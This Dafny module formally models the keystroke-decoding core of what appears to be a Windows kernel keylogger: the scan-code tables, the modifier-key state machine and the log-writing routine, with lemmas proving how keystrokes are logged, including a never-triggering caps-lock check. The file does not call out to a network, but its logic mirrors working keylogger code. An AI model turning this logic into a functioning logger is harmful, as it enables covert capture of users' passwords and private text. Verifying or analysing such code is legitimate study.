/** The scan-code decoder of the keystroke logger: two 84-entry tables map a
    keyboard scan code to a US-layout character or to a marker for a special key,
    and a small state machine over the modifier flags decides what each keystroke
    appends to the log. */
module Keymap {

  // Markers the tables hold for keys that are not printed as themselves.
  const INVALID: char := 0 as char
  const SPACE: char := 1 as char
  const ENTER: char := 2 as char
  const LSHIFT: char := 3 as char
  const RSHIFT: char := 4 as char
  const CTRL: char := 5 as char
  const ALT: char := 6 as char
  const BACKSPACE: char := 7 as char
  const ESC: char := 8 as char
  const TAB: char := 9 as char

  // KEYBOARD_INPUT_DATA.Flags values.
  const KEY_MAKE: int := 0
  const KEY_BREAK: int := 1
  const KEY_E0: int := 2
  const KEY_E1: int := 4

  /** The caps-lock indicator flag of the keyboard indicator parameters. */
  const KEYBOARD_CAPS_LOCK_ON: int := 4

  /** The number of scan codes the tables cover. */
  const KEY_MAP_SIZE: nat := 84

  /** The unshifted US layout (KeyMap), by scan code. */
  function KeyMap(scanCode: nat): (c: char)
    requires scanCode < KEY_MAP_SIZE
    ensures c <= TAB || Printable(c)
  {
    match scanCode
    case 0x00 => INVALID
    case 0x01 => INVALID
    case 0x02 => '1'
    case 0x03 => '2'
    case 0x04 => '3'
    case 0x05 => '4'
    case 0x06 => '5'
    case 0x07 => '6'
    case 0x08 => '7'
    case 0x09 => '8'
    case 0x0A => '9'
    case 0x0B => '0'
    case 0x0C => '-'
    case 0x0D => '='
    case 0x0E => BACKSPACE
    case 0x0F => TAB
    case 0x10 => 'q'
    case 0x11 => 'w'
    case 0x12 => 'e'
    case 0x13 => 'r'
    case 0x14 => 't'
    case 0x15 => 'y'
    case 0x16 => 'u'
    case 0x17 => 'i'
    case 0x18 => 'o'
    case 0x19 => 'p'
    case 0x1A => '['
    case 0x1B => ']'
    case 0x1C => ENTER
    case 0x1D => CTRL
    case 0x1E => 'a'
    case 0x1F => 's'
    case 0x20 => 'd'
    case 0x21 => 'f'
    case 0x22 => 'g'
    case 0x23 => 'h'
    case 0x24 => 'j'
    case 0x25 => 'k'
    case 0x26 => 'l'
    case 0x27 => ';'
    case 0x28 => '\''
    case 0x29 => '`'
    case 0x2A => LSHIFT
    case 0x2B => '\\'
    case 0x2C => 'z'
    case 0x2D => 'x'
    case 0x2E => 'c'
    case 0x2F => 'v'
    case 0x30 => 'b'
    case 0x31 => 'n'
    case 0x32 => 'm'
    case 0x33 => ','
    case 0x34 => '.'
    case 0x35 => '/'
    case 0x36 => RSHIFT
    case 0x37 => INVALID
    case 0x38 => ALT
    case 0x39 => SPACE
    case 0x3A => INVALID
    case 0x3B => INVALID
    case 0x3C => INVALID
    case 0x3D => INVALID
    case 0x3E => INVALID
    case 0x3F => INVALID
    case 0x40 => INVALID
    case 0x41 => INVALID
    case 0x42 => INVALID
    case 0x43 => INVALID
    case 0x44 => INVALID
    case 0x45 => INVALID
    case 0x46 => INVALID
    case 0x47 => '7'
    case 0x48 => '8'
    case 0x49 => '9'
    case 0x4A => INVALID
    case 0x4B => '4'
    case 0x4C => '5'
    case 0x4D => '6'
    case 0x4E => INVALID
    case 0x4F => '1'
    case 0x50 => '2'
    case 0x51 => '3'
    case 0x52 => '0'
    case _ => INVALID  // 0x53: not initialised, hence zero
  }

  /** The shifted US layout (ExtendedKeyMap), by scan code. */
  function ExtendedKeyMap(scanCode: nat): (c: char)
    requires scanCode < KEY_MAP_SIZE
    ensures c <= TAB || Printable(c)
  {
    match scanCode
    case 0x00 => INVALID
    case 0x01 => INVALID
    case 0x02 => '!'
    case 0x03 => '@'
    case 0x04 => '#'
    case 0x05 => '$'
    case 0x06 => '%'
    case 0x07 => '^'
    case 0x08 => '&'
    case 0x09 => '*'
    case 0x0A => '('
    case 0x0B => ')'
    case 0x0C => '_'
    case 0x0D => '+'
    case 0x0E => BACKSPACE
    case 0x0F => TAB
    case 0x10 => 'Q'
    case 0x11 => 'W'
    case 0x12 => 'E'
    case 0x13 => 'R'
    case 0x14 => 'T'
    case 0x15 => 'Y'
    case 0x16 => 'U'
    case 0x17 => 'I'
    case 0x18 => 'O'
    case 0x19 => 'P'
    case 0x1A => '{'
    case 0x1B => '}'
    case 0x1C => ENTER
    case 0x1D => CTRL
    case 0x1E => 'A'
    case 0x1F => 'S'
    case 0x20 => 'D'
    case 0x21 => 'F'
    case 0x22 => 'G'
    case 0x23 => 'H'
    case 0x24 => 'J'
    case 0x25 => 'K'
    case 0x26 => 'L'
    case 0x27 => ':'
    case 0x28 => '"'
    case 0x29 => '~'
    case 0x2A => LSHIFT
    case 0x2B => '|'
    case 0x2C => 'Z'
    case 0x2D => 'X'
    case 0x2E => 'C'
    case 0x2F => 'V'
    case 0x30 => 'B'
    case 0x31 => 'N'
    case 0x32 => 'M'
    case 0x33 => '<'
    case 0x34 => '>'
    case 0x35 => '?'
    case 0x36 => RSHIFT
    case 0x37 => INVALID
    case 0x38 => INVALID
    case 0x39 => SPACE
    case 0x3A => INVALID
    case 0x3B => INVALID
    case 0x3C => INVALID
    case 0x3D => INVALID
    case 0x3E => INVALID
    case 0x3F => INVALID
    case 0x40 => INVALID
    case 0x41 => INVALID
    case 0x42 => INVALID
    case 0x43 => INVALID
    case 0x44 => INVALID
    case 0x45 => INVALID
    case 0x46 => INVALID
    case 0x47 => '7'
    case 0x48 => '8'
    case 0x49 => '9'
    case 0x4A => INVALID
    case 0x4B => '4'
    case 0x4C => '5'
    case 0x4D => '6'
    case 0x4E => INVALID
    case 0x4F => '1'
    case 0x50 => '2'
    case 0x51 => '3'
    case 0x52 => '0'
    case _ => INVALID  // 0x53: not initialised, hence zero
  }

  /** The modifier flags kept between keystrokes. */
  datatype KeyState = KeyState(shift: bool, capsLock: bool, ctrl: bool, alt: bool)

  /** One intercepted keystroke: its scan code and its flags. */
  datatype KeyData = KeyData(scanCode: int, flags: int)

  /** A scan code the tables cover. */
  predicate InTable(k: KeyData)
  {
    0 <= k.scanCode < KEY_MAP_SIZE
  }

  /** The characters written to the log as themselves. */
  predicate Printable(c: char)
  {
    0x21 as char <= c <= 0x7E as char
  }

  /** What a keystroke does: the modifier flags afterwards and the text it logs. */
  datatype Outcome = Outcome(state: KeyState, output: string)

  /** The decision of WriteKeystrokeToLog, by the unshifted table entry of the key.
      The caps-lock test compares a local that is always 0, so it never holds. */
  function Keystroke(s: KeyState, k: KeyData): (o: Outcome)
    requires InTable(k)
    ensures o.output != "" ==> k.flags == KEY_MAKE
    ensures o.state.capsLock == s.capsLock
  {
    var key := KeyMap(k.scanCode);
    var make := k.flags == KEY_MAKE;
    var flag := 0;
    if key == LSHIFT || key == RSHIFT then Outcome(s.(shift := make), "")
    else if key == CTRL then (if make then Outcome(s.(ctrl := true), "[CTRL]") else Outcome(s.(ctrl := false), ""))
    else if key == ALT then (if make then Outcome(s.(alt := true), "[ALT]") else Outcome(s.(alt := false), ""))
    else if key == SPACE then Outcome(s, if !s.alt && make then "[SPACE]" else "")
    else if key == ENTER then Outcome(s, if !s.alt && make then "[ENTER]" else "")
    else if key == BACKSPACE then Outcome(s, if make then "[BACKSPACE]" else "")
    else if key == ESC then Outcome(s, if make then "[ESC]" else "")
    else if key == TAB then Outcome(s, if make then "[TAB]" else "")
    else if !s.alt && !s.ctrl && make && Printable(key) then
      Outcome(s, if s.shift || flag == KEYBOARD_CAPS_LOCK_ON then [ExtendedKeyMap(k.scanCode)] else [key])
    else Outcome(s, "")
  }

  /** The tags a special key can log. */
  predicate IsTag(out: string)
  {
    out == "[CTRL]" || out == "[ALT]" || out == "[SPACE]" || out == "[ENTER]"
    || out == "[BACKSPACE]" || out == "[ESC]" || out == "[TAB]"
  }

  /** Wherever the unshifted table holds a printable character, so does the shifted
      one. */
  lemma ShiftedTableIsPrintableWherePlainIs()
    ensures forall i :: 0 <= i < KEY_MAP_SIZE && Printable(KeyMap(i)) ==> Printable(ExtendedKeyMap(i))
  {
  }

  /** A keystroke logs nothing, one tag, or one printable character. */
  lemma OutputIsTagOrCharacter(s: KeyState, k: KeyData)
    requires InTable(k)
    ensures var out := Keystroke(s, k).output;
      out == "" || IsTag(out) || (|out| == 1 && Printable(out[0]))
  {
    ShiftedTableIsPrintableWherePlainIs();
  }

  /** The shift keys set the shift flag on a plain make and clear it on anything
      else, extended make included; they log nothing. */
  lemma ShiftKeys(s: KeyState, flags: int)
    ensures Keystroke(s, KeyData(0x2A, flags)) == Outcome(s.(shift := flags == KEY_MAKE), "")
    ensures Keystroke(s, KeyData(0x36, flags)) == Outcome(s.(shift := flags == KEY_MAKE), "")
  {
  }

  /** CTRL and ALT log their tag and set their flag on make, and clear it silently
      otherwise. */
  lemma CtrlAndAltKeys(s: KeyState, flags: int)
    ensures Keystroke(s, KeyData(0x1D, flags)) ==
      (if flags == KEY_MAKE then Outcome(s.(ctrl := true), "[CTRL]") else Outcome(s.(ctrl := false), ""))
    ensures Keystroke(s, KeyData(0x38, flags)) ==
      (if flags == KEY_MAKE then Outcome(s.(alt := true), "[ALT]") else Outcome(s.(alt := false), ""))
  {
  }

  /** SPACE and ENTER log their tag only on make while ALT is not held. */
  lemma SpaceAndEnterKeys(s: KeyState, flags: int)
    ensures Keystroke(s, KeyData(0x39, flags)).output == (if !s.alt && flags == KEY_MAKE then "[SPACE]" else "")
    ensures Keystroke(s, KeyData(0x1C, flags)).output == (if !s.alt && flags == KEY_MAKE then "[ENTER]" else "")
  {
  }

  /** A key whose table entry is printable logs exactly one character, on make with
      neither ALT nor CTRL held: the shifted character while SHIFT is held, the plain
      one otherwise. It logs nothing in every other case. */
  lemma PrintableKeys(s: KeyState, k: KeyData)
    requires InTable(k) && Printable(KeyMap(k.scanCode))
    ensures Keystroke(s, k).state == s
    ensures Keystroke(s, k).output ==
      (if !s.alt && !s.ctrl && k.flags == KEY_MAKE
       then [if s.shift then ExtendedKeyMap(k.scanCode) else KeyMap(k.scanCode)]
       else "")
  {
  }

  /** A single character is logged only for a printable key. */
  lemma SingleCharacterOnlyForPrintableKeys(s: KeyState, k: KeyData)
    requires InTable(k) && |Keystroke(s, k).output| == 1
    ensures Printable(KeyMap(k.scanCode)) && !s.alt && !s.ctrl && k.flags == KEY_MAKE
  {
  }

  /** Only the shift, CTRL and ALT keys change the modifier flags. */
  lemma OnlyModifiersChangeState(s: KeyState, k: KeyData)
    requires InTable(k)
    requires !(k.scanCode in {0x1D, 0x2A, 0x36, 0x38})
    ensures Keystroke(s, k).state == s
  {
    var key := KeyMap(k.scanCode);
    assert key != LSHIFT && key != RSHIFT && key != CTRL && key != ALT;
  }

  /** No table entry is the ESC marker, so ESC is never logged. */
  lemma EscIsNeverLogged(s: KeyState, k: KeyData)
    requires InTable(k)
    ensures Keystroke(s, k).output != "[ESC]"
  {
    assert forall i :: 0 <= i < KEY_MAP_SIZE ==> KeyMap(i) != ESC;
  }

  /** The caps-lock flag is never consulted and never changed. */
  lemma CapsLockIgnored(s: KeyState, k: KeyData, capsLock: bool)
    requires InTable(k)
    ensures Keystroke(s.(capsLock := capsLock), k).output == Keystroke(s, k).output
    ensures Keystroke(s, k).state.capsLock == s.capsLock
  {
  }

  /** The keystroke logger's device extension, reduced to the modifier flags, whether
      a log file is open, and what has been written to it. */
  class KeylogDevice {
    var state: KeyState
    var hasLogFile: bool
    var log: string

    constructor (hasLogFile: bool)
      ensures state == KeyState(false, false, false, false)
      ensures this.hasLogFile == hasLogFile && log == ""
    {
      state := KeyState(false, false, false, false);
      this.hasLogFile := hasLogFile;
      log := "";
    }

    /** WriteStringToLog and WriteCharToLog: appends to the log when a file is open. */
    method Emit(s: string)
      modifies this`log
      ensures log == (if hasLogFile then old(log) + s else old(log))
    {
      if hasLogFile {
        log := log + s;
      }
    }

    /** WriteKeystrokeToLog: updates the modifier flags and logs what `Keystroke`
        decides; without a log file, nothing is logged. */
    method WriteKeystrokeToLog(k: KeyData)
      requires InTable(k)
      modifies this`state, this`log
      ensures state == Keystroke(old(state), k).state
      ensures log == old(log) + (if hasLogFile then Keystroke(old(state), k).output else "")
    {
      var key := KeyMap(k.scanCode);
      var flag := 0;
      if key == LSHIFT || key == RSHIFT {
        if k.flags == KEY_MAKE {
          state := state.(shift := true);
        } else {
          state := state.(shift := false);
        }
      } else if key == CTRL {
        if k.flags == KEY_MAKE {
          Emit("[CTRL]");
          state := state.(ctrl := true);
        } else {
          state := state.(ctrl := false);
        }
      } else if key == ALT {
        if k.flags == KEY_MAKE {
          Emit("[ALT]");
          state := state.(alt := true);
        } else {
          state := state.(alt := false);
        }
      } else if key == SPACE {
        if !state.alt && k.flags == KEY_MAKE {
          Emit("[SPACE]");
        }
      } else if key == ENTER {
        if !state.alt && k.flags == KEY_MAKE {
          Emit("[ENTER]");
        }
      } else if key == BACKSPACE {
        if k.flags == KEY_MAKE {
          Emit("[BACKSPACE]");
        }
      } else if key == ESC {
        if k.flags == KEY_MAKE {
          Emit("[ESC]");
        }
      } else if key == TAB {
        if k.flags == KEY_MAKE {
          Emit("[TAB]");
        }
      } else {
        if !state.alt && !state.ctrl && k.flags == KEY_MAKE {
          if Printable(key) {
            if state.shift || flag == KEYBOARD_CAPS_LOCK_ON {
              Emit([ExtendedKeyMap(k.scanCode)]);
            } else {
              Emit([key]);
            }
          }
        }
      }
    }
  }
}
